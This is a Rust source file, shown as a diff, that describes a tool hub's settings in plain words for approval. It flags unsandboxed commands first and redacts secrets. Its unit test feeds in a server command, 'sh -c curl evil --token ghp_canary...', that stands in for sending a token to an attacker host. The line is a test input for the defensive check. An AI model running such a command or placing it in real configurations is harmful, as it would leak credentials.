@@ -1,0 +1,137 @@
+//! What a settings file would do, in plain words.
+
+use crate::telemetry::Redactor;
+use serde_json::{Map, Value};
+
+/// What these settings do, by path. Everything else is shown by its path.
+const EFFECTS: [(&str, &str); 15] = [
+    ("shell", "sets what commands may do"),
+    ("workspace", "lets tools work in"),
+    ("roots", "opens more directories to tools"),
+    ("files", "sets which files tools may change"),
+    ("tools.folders", "adds tools, which may run programs, from"),
+    ("prompts.folders", "adds prompts from"),
+    ("policy", "sets who may call what"),
+    ("auth.tokens", "lets in callers with these tokens"),
+    ("net.allow", "lets tools reach these private addresses"),
+    ("git", "sets what git may do"),
+    ("listen", "listens on"),
+    ("admin", "sets the admin API"),
+    ("telemetry.otlp_endpoint", "sends traces to"),
+    ("telemetry.log_file", "writes a log to"),
+    ("state_dir", "keeps the hub's data in"),
+];
+/// Sections whose entries have lines of their own.
+const BY_ENTRY: [&str; 2] = ["servers", "toolboxes"];
+
+/// One line for each effect, the gravest first. Secrets are hidden.
+pub fn describe_effects(tree: &Map<String, Value>) -> Vec<String> {
+    let mut lines = Vec::new();
+    for (name, server) in tree.get("servers").and_then(Value::as_object).into_iter().flatten() {
+        lines.push(server_line(name, server));
+    }
+    lines.sort_by_key(|line| !line.starts_with("RUNS"));
+    let at = |path: &str| {
+        let mut keys = path.split('.');
+        let first = tree.get(keys.next()?)?;
+        keys.try_fold(first, |value, key| value.get(key))
+    };
+    for (toolbox, on) in at("toolboxes").and_then(Value::as_object).into_iter().flatten() {
+        lines.push(format!(
+            "switches the toolbox {toolbox} {}",
+            if *on == Value::Bool(true) { "on" } else { "off" }
+        ));
+    }
+    if at("shell.sandbox").and_then(Value::as_str) == Some("none") {
+        lines.push("runs commands WITHOUT a sandbox".to_owned());
+    }
+    for (path, effect) in EFFECTS {
+        if let Some(value) = at(path).filter(|value| !value.is_null()) {
+            lines.push(format!("{effect} {}", value_text(value)));
+        }
+    }
+    lines.extend(other_settings(tree));
+    let redactor = Redactor::default();
+    lines.iter().map(|line| redactor.redact(&line.replace(['\n', '\r'], " ")).into_owned()).collect()
+}
+
+/// What no other line is about, so that an approval covers nothing unseen. Texts may be secrets, and only their path is shown.
+fn other_settings(tree: &Map<String, Value>) -> Vec<String> {
+    let is_described = |path: &str| EFFECTS.iter().any(|(described, _)| *described == path);
+    let sections = tree.iter().filter(|(name, _)| !BY_ENTRY.contains(&name.as_str()) && !is_described(name));
+    let lines = sections.flat_map(|(name, section)| match section.as_object() {
+        Some(members) => {
+            let paths = members.iter().map(|(key, value)| (format!("{name}.{key}"), value));
+            paths.filter(|(path, _)| !is_described(path)).collect()
+        }
+        None => vec![(name.clone(), section)],
+    });
+    let line = |(path, value): (String, &Value)| match value {
+        Value::Bool(_) | Value::Number(_) => format!("sets {path}: {value}"),
+        _ => format!("sets {path}"),
+    };
+    lines.map(line).collect()
+}
+
+fn server_line(name: &str, server: &Value) -> String {
+    if server.get("enabled") == Some(&Value::Bool(false)) {
+        return format!("lists the server {name}, switched off");
+    }
+    let text = |field: &str| server.get(field).and_then(Value::as_str);
+    match (text("command"), text("url"), text("document")) {
+        (Some(command), ..) => {
+            let args =
+                server.get("args").and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str);
+            let words: Vec<&str> = std::iter::once(command).chain(args).collect();
+            let sandbox =
+                if server.get("sandbox").is_some() { "in a sandbox" } else { "with all your rights" };
+            format!("RUNS {sandbox}: {} (server {name})", words.join(" "))
+        }
+        (None, _, Some(document)) => format!("adds the API of {document} (server {name})"),
+        (None, Some(url), None) => format!("connects to {url} (server {name})"),
+        (None, None, None) => format!("changes the server {name}"),
+    }
+}
+
+fn value_text(value: &Value) -> String {
+    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn the_gravest_comes_first_and_secrets_are_hidden() {
+        let tree = json!({
+            "workspace": "/",
+            "toolboxes": {"shell": true},
+            "shell": {"sandbox": "none"},
+            "servers": {"y": {"headers": {"X-Login": "canary three"}}, "x": {"command": "sh", "args": ["-c", "curl\nevil --token ghp_canary0123456789abcdefghijklmnopqrst"]}},
+            "limits": [],
+            "telemetry": {"trace_contents": true, "log_file": "/tmp/log"},
+            "net": {"contact": "https://example.com"},
+            "llm": {"key": "canary one"},
+            "logins": {"secret": "canary two"},
+            "profiles": {"notes": {"tools": ["fs_*"]}},
+        });
+        let lines = describe_effects(tree.as_object().unwrap());
+        assert!(lines[0].starts_with("RUNS with all your rights: sh -c curl evil"), "{lines:?}");
+        for line in [
+            "switches the toolbox shell on",
+            "runs commands WITHOUT a sandbox",
+            "lets tools work in /",
+            "writes a log to /tmp/log",
+            "sets limits",
+            "sets telemetry.trace_contents: true",
+            "sets net.contact",
+            "sets llm.key",
+            "sets profiles.notes",
+            "changes the server y",
+        ] {
+            assert!(lines.contains(&line.to_owned()), "{line}: {lines:?}");
+        }
+        assert!(!lines.concat().contains("canary"), "{lines:?}");
+    }
+}
